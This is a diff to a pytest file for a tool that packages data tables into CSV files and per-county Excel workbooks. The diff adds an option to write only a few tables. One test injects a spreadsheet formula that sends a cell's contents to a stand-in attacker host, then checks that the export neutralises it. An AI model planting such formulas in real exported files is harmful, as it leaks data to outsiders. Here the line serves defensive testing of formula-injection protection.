@@ -25,8 +25,11 @@ def book(folder) -> openpyxl.Workbook:
     return openpyxl.load_workbook(folder / "数据包.xlsx")
 
 
-def written(tmp_path: Path, folder: Path, *statements: str) -> Path:
-    """A release's formats made anew from its tables, after some statements on them."""
+FEW = ("dim_county_year", "dim_item", "dim_site", "rpt_scorecard")
+
+
+def written(tmp_path: Path, folder: Path, *statements: str, only: tuple[str, ...] = tuple(TABLES)) -> Path:
+    """A release's formats made anew from its tables, or a few of them, after some statements on them."""
     target = tmp_path / "anew"
     shutil.copytree(folder / "tables", target / "tables")
     with duckdb.connect() as con:
@@ -37,7 +40,9 @@ def written(tmp_path: Path, folder: Path, *statements: str) -> Path:
             con.execute(statement)
             con.execute(f"copy {name} to '{path}' (format parquet)")
     rows = {name: table["rows"] for name, table in release.manifest_in(folder)["tables"].items()}
-    package.write(target, rows, "a hash")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(package.dictionary, "output_tables", lambda: {name: TABLES[name] for name in only})
+        package.write(target, rows, "a hash")
     return target
 
 
@@ -76,7 +81,7 @@ def test_csv_has_its_mark_and_the_columns_and_rows_of_the_table(folder, table):
 
 def test_a_name_that_would_run_in_a_spreadsheet_is_disarmed(tmp_path, folder):
     formula = '=HYPERLINK("http://evil.example/?"&A1)'
-    anew = written(tmp_path, folder, f"update rpt_scorecard set school_name = '{formula}'")
+    anew = written(tmp_path, folder, f"update rpt_scorecard set school_name = '{formula}'", only=FEW)
     with (anew / "csv" / "rpt_scorecard.csv").open(encoding="utf-8-sig", newline="") as file:
         assert {row["school_name"] for row in csv.DictReader(file)} == {f"'{formula}"}
     sheet = openpyxl.load_workbook(anew / "数据包.xlsx")["学校成绩单"]
@@ -120,16 +125,16 @@ def test_the_workbook_says_what_it_is_and_that_it_is_made_up(book):
 
 
 def test_too_many_rows_leave_a_note_in_place_of_the_workbook(tmp_path, folder, monkeypatch):
-    monkeypatch.setattr(package, "MOST_ROWS", 1000)
-    anew = written(tmp_path, folder)
+    monkeypatch.setattr(package, "MOST_ROWS", 100)
+    anew = written(tmp_path, folder, only=FEW)
     assert not list(anew.glob("*.xlsx"))
-    assert "1,000" in (anew / package.NOTE).read_text("utf-8")
+    assert " 100 " in (anew / package.NOTE).read_text("utf-8")
 
 
 def test_more_counties_have_a_workbook_each(tmp_path, folder):
     both = ("dim_county_year", "rpt_scorecard")
     moved = (f"update {name} set county_code = '500105' where stat_year = 2019" for name in both)
-    anew = written(tmp_path, folder, *moved)
+    anew = written(tmp_path, folder, *moved, only=FEW)
     assert sorted(path.name for path in (anew / "数据包").iterdir()) == ["500104.xlsx", "500105.xlsx"]
     for county in ("500104", "500105"):
         rows = openpyxl.load_workbook(anew / "数据包" / f"{county}.xlsx")["学校成绩单"].iter_rows(
